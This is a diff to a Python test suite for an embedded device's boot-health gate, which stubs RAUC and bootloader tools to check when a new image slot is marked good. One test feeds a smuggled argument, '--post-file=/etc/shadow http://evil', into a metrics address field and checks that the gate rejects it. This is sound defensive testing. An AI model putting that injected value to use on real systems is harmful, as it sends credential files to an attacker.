@@ -68,6 +68,7 @@ class Health(Dir):
         unit = self.dir / "systemctl"
         unit.write_text('#!/bin/sh\ncat "$(dirname "$0")/$3" 2>/dev/null\n')
         unit.chmod(0o755)
+        self.rauc()
         self.env = {
             "PATH": f"{self.dir}:{os.environ['PATH']}",
             "FLOORCAST_FIGURES": str(self.dir / "metrics"),
@@ -86,6 +87,17 @@ class Health(Dir):
         """Another image in the slot, at its first start."""
         (self.dir / "release").write_text(f"VERSION={build}\nBUILD={build}\n")
         (self.dir / "good").unlink(missing_ok=True)
+
+    def rauc(self, ends: int = 0) -> None:
+        """RAUC, which answers or does not, and writes down what it was asked."""
+        rauc = self.dir / "rauc"
+        rauc.write_text(f'#!/bin/sh\necho "$*" >>{self.dir}/asked\nexit {ends}\n')
+        rauc.chmod(0o755)
+
+    def asked(self) -> list[str]:
+        """What RAUC was asked to change."""
+        lines = (self.dir / "asked").read_text().splitlines()
+        return [line for line in lines if line != "status"]
 
     def gate(self, *words: str) -> int:
         """Asks it."""
@@ -106,6 +118,8 @@ class Health(Dir):
     def settled(self) -> None:
         """An image that passed, and what it had on air."""
         self.assertEqual([self.gate("check"), self.gate("keep")], [0, 0])
+        self.assertFalse(self.passed(), "the bootloader does not know it yet")
+        self.assertEqual(self.gate("kept"), 0)
         self.assertTrue(self.passed())
 
     def test_a_new_image_has_to_have_on_air_what_the_one_before_had(self):
@@ -134,9 +148,75 @@ class Health(Dir):
 
     def test_a_daemon_that_does_not_answer_does_not_pass(self):
         """Whatever the configuration is."""
+        self.settled()
+        self.image("2")
         (self.dir / "metrics").write_text("127.0.0.1:9")
         self.assertEqual(self.gate(), 1)
         self.assertIn("does not answer", self.verdict()["reason"])
+
+    def test_an_image_that_could_not_be_replaced_does_not_pass(self):
+        """Without its RAUC it would be the box's last."""
+        self.settled()
+        self.image("2")
+        self.rauc(1)
+        self.assertEqual(self.gate(), 1)
+        self.assertEqual(self.verdict()["reason"], "RAUC does not answer")
+
+    def test_the_first_image_of_a_box_is_not_given_up(self):
+        """There is no other: it would start for ever, out of reach of who can mend it."""
+        Daemon.figures = ""
+        (self.dir / "metrics").write_text("127.0.0.1:9")
+        self.assertEqual(self.gate(), 0)
+        self.assertIn("does not answer", (self.dir / "data/health/log").read_text())
+        self.assertFalse((self.dir / "data/health/verdict.json").exists())
+
+    def test_the_bootloader_is_told_once_it_is_noted(self):
+        """A cut in between puts no slot on trial whose other one is not gone back to."""
+        self.assertEqual(self.gate(), 0)
+        self.rauc(1)
+        ran = self.run_("health/floorcast-good", **self.env)
+        self.assertEqual((ran.returncode, self.passed()), (1, False))
+        self.assertEqual(self.verdict()["reason"], "RAUC does not mark the slot good")
+        Daemon.figures = ""
+        self.assertEqual(self.gate(), 0, "the next start does not try it again")
+        self.rauc()
+        self.assertEqual(self.run_("health/floorcast-good", **self.env).returncode, 0)
+        self.assertTrue(self.passed())
+        self.assertFalse((self.dir / "data/health/verdict.json").exists())
+        self.assertEqual(set(self.asked()), {"status mark-good"})
+
+    def test_the_other_slot_is_not_gone_back_to(self):
+        """Whatever RAUC it is: what was replaced is older."""
+        variables = {"BOOT_GOOD": "A", "BOOT_A_LEFT": "3", "BOOT_B_LEFT": "3"}
+        for name, value in variables.items():
+            (self.dir / name).write_text(value)
+        for name in ("fw_printenv", "fw_setenv"):
+            (self.dir / name).write_text('#!/bin/sh\ncat "$(dirname "$0")/$2"\n')
+            (self.dir / name).chmod(0o755)
+        self.env["FLOORCAST_FW_ENV"] = str(self.dir / "BOOT_GOOD")
+        self.assertEqual(self.gate(), 0)
+        self.assertEqual(self.run_("health/floorcast-good", **self.env).returncode, 0)
+        self.assertEqual(self.asked(), ["status mark-good", "status mark-bad other"])
+        (self.dir / "BOOT_B_LEFT").write_text("0")
+        self.assertEqual(self.run_("health/floorcast-good", **self.env).returncode, 0)
+        self.assertEqual(self.asked()[2:], ["status mark-good"], "it is so already")
+
+    def test_an_image_that_the_box_went_back_to_is_not_tried_again(self):
+        """It passed in its slot; a slot that is written anew has to."""
+        self.settled()
+        (self.dir / "cmdline").write_text("rauc.slot=B")
+        self.image("2")
+        self.settled()
+        for slot, build in (("A", "1"), ("B", "2")):
+            (self.dir / "cmdline").write_text(f"rauc.slot={slot}")
+            self.image(build)
+            (self.dir / "metrics").write_text("127.0.0.1:9")
+            self.assertEqual(self.gate(), 0)
+        self.assertEqual(self.gate("kept"), 0)
+        self.assertEqual(self.run_("rauc/pre-install", **self.env).returncode, 0)
+        (self.dir / "cmdline").write_text("rauc.slot=A")
+        self.image("1")
+        self.assertEqual(self.gate(), 1)
 
     def test_an_image_that_was_good_is_not_given_up(self):
         """A camera that breaks later is a broken camera."""
@@ -151,12 +231,15 @@ class Health(Dir):
         Daemon.figures = ""
         self.assertEqual(self.gate(), 1)
         self.image("1")
-        self.assertEqual([self.gate(), self.gate("unkept", "a moment"), self.gate("keep")], [0] * 3)
+        words = ["check"], ["keep"], ["unkept", "a moment"], ["kept"]
+        self.assertEqual([self.gate(*said) for said in words], [0] * 4)
         self.assertTrue(self.verdict()["given_up"])
         self.assertEqual(self.lived(), ["bus/p", "feed/a"], "what it starts with is not yet all")
 
     def test_one_good_moment_is_not_enough(self):
         """A daemon that dies and starts anew is well in between."""
+        self.settled()
+        self.image("2")
         (self.dir / "NRestarts").write_text("1")
         self.env["FLOORCAST_STEADY_S"] = "60"
         self.env["FLOORCAST_WITHIN_S"] = "3"
@@ -187,11 +270,12 @@ class Health(Dir):
 
     def test_what_waits_for_the_bootloader_is_told(self):
         """It is tried again, and the daemon can say why it takes so long."""
-        self.assertEqual([self.gate(), self.gate("unkept", 'no "room"')], [0, 0])
+        words = ["check"], ["keep"], ["unkept", 'no "room"']
+        self.assertEqual([self.gate(*said) for said in words], [0] * 3)
         self.assertEqual(
             (self.verdict()["given_up"], self.verdict()["reason"]), (False, "no room")
         )
-        self.assertEqual(self.gate("keep"), 0)
+        self.assertEqual(self.gate("kept"), 0)
         self.assertFalse((self.dir / "data/health/verdict.json").exists())
 
     def test_nothing_is_written_from_a_slot_on_trial(self):
@@ -206,6 +290,8 @@ class Health(Dir):
 
     def test_the_figures_are_where_the_daemon_says(self):
         """Its word is an address or nothing."""
+        self.settled()
+        self.image("2")
         (self.dir / "metrics").write_text("--post-file=/etc/shadow http://evil")
         self.assertEqual(self.gate(), 1)
         self.assertIn("127.0.0.1:9184", self.verdict()["reason"])
@@ -246,8 +332,10 @@ class Hook(Dir):
         ours = "floorcast-bench"
         self.assertEqual(self.check(ours, "1.10")[0], 0)
         self.assertEqual(self.check(ours, "1.11")[0], 0)
+        self.assertEqual(self.check(ours, "1.11-rc1")[0], 0)
         for compatible, version, why in (
             (ours, "1.9", "older"),
+            (ours, "1.10-rc1", "older"),
             (ours, "", "no version"),
             ("floorcast-other", "2.0", "this box is floorcast-bench"),
         ):
